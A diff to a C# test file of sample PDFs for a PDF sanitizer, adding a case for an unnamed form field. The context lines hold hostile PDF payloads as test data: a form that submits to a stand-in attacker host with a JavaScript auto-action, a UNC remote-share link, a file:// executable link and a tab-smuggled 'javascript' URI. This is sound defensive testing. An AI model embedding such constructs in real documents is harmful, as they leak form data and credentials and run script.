@@ -67,6 +67,7 @@ internal static class PdfSamples
         yield return ("submitform", new PdfMaker("/AcroForm<</Fields[6 0 R]>>", "/Annots[6 0 R]")
             .With(6, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(KEPT-VALUE)/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example/)>>/AA<</K<</S/JavaScript/JS(x)>>>>>>")
             .Make(), Sanitized(["SubmitForm", "evil.example", "/AA"], FindingKind.FormSubmission, FindingKind.AutoAction) with { Kept = ["KEPT-VALUE"] });
+        yield return ("field-type-no-name", new PdfMaker("/AcroForm<</Fields[<</FT 1/V(SECRET-VALUE)>>]>>").Make(), Sanitized(["SECRET-VALUE"], FindingKind.UnknownContent));
         yield return ("gotor-unc", new PdfMaker(page: Link("<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>")).Make(), Sanitized(["GoToR", "evil.example"], FindingKind.ExternalReference));
         yield return ("uri-bad-scheme", new PdfMaker(page: Link("<</S/URI/URI(file:///C:/evil.exe)>>")).Make(), Sanitized(["evil.exe"], FindingKind.ExternalReference));
         yield return ("uri-control-character", new PdfMaker(page: Link("<</S/URI/URI(java\\tscript:evil)>>")).Make(), Sanitized(["script:evil"], FindingKind.ExternalReference));
